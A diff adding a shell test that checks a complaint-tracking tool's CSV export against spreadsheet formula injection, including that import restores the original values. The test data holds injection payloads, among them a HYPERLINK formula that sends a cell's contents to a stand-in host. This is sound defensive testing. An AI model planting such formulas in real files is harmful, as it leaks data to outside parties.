@@ -172,6 +172,29 @@ test_export_import_round_trip() {
 	assert_eq "$(jqs "$json" '.[0].clocks | length')" 2
 }
 
+# What a customer typed cannot run as a formula in the supervisor's
+# spreadsheet, and the guard comes off again on import.
+test_export_is_safe_in_a_spreadsheet() {
+	at 2026-11-02T09:00 new --channel phone --category service_attitude --customer '@SUM(A1)' \
+		--phone '+8613900000000' --plate "'-5" --description '=HYPERLINK("http://x.example/?"&A1,"退款")' \
+		--request "'=1+1" --reference "'plain" >/dev/null
+	at 2026-11-02T11:00 export >"$WORK/out.csv"
+	row=$(sed -n 2p "$WORK/out.csv")
+	assert_contains "$row" ",'@SUM(A1),'+8613900000000,''-5,'plain,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"退款\"\")\",''=1+1,"
+	# No cell of the file begins with a formula character, read as a
+	# spreadsheet reads it (sqlite3's own CSV reader).
+	sqlite3 "$WORK/cells.db" ".import --csv $WORK/out.csv x"
+	cols=$(sqlite3 "$WORK/cells.db" "select group_concat('(substr(\"' || name || '\", 1, 1) in (''='', ''+'', ''-'', ''@'', char(9), char(13)))', ' + ') from pragma_table_info('x')")
+	assert_eq "$(sqlite3 "$WORK/cells.db" "select sum($cols) from x")" 0 "cells a spreadsheet would run"
+	rm -f "$WORK/b.db"
+	CDESK_NOW=2026-11-03T09:00 "$CDESK" --db "$WORK/b.db" import "$WORK/out.csv" >/dev/null || fail "cannot import"
+	for f in customer phone plate reference description request; do
+		assert_eq "$(sqlite3 "$WORK/b.db" "select $f from complaints")" "$(sql "select $f from complaints")" "$f"
+	done
+	# --raw: the cells as stored.
+	assert_contains "$(at 2026-11-02T11:00 export --raw | sed -n 2p)" ",@SUM(A1),+8613900000000,'-5,'plain,\"=HYPERLINK("
+}
+
 # The file is read a buffer (64 KiB) at a time: records that cross from one
 # to the next, and line numbers after many of them, come out whole.
 test_import_reads_a_large_file_in_pieces() {
